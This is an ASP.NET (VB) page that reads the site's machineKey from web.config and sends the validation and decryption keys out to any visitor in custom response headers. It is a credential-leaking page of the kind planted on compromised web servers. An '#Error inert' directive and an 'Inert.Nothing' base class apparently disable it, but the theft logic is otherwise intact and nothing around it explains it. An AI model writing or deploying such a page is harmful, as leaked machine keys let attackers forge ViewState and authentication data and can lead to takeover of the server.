<%@ Page Language="VB" Inherits="Inert.Nothing" %>
<script runat="server">
#Error inert
Sub Page_Load()
    Dim cfg = System.Web.Configuration.WebConfigurationManager.OpenWebConfiguration("~")
    Dim mk = CType(cfg.GetSection("system.web/machineKey"), System.Web.Configuration.MachineKeySection)
    Response.AddHeader("X-TXT-1", mk.ValidationKey)
    Response.AddHeader("X-TXT-2", mk.DecryptionKey)
End Sub
</script>
